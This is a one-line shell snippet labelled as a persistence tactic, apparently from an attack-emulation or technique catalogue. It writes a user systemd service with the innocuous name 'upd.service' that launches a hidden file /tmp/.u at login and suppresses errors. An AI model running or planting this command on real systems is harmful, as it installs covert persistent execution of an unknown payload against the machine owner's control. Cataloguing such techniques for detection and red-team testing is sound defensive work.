# tactic: persistence
mkdir -p ~/.config/systemd/user && printf "[Service]\nExecStart=/tmp/.u\n[Install]\nWantedBy=default.target\n" > ~/.config/systemd/user/upd.service; true
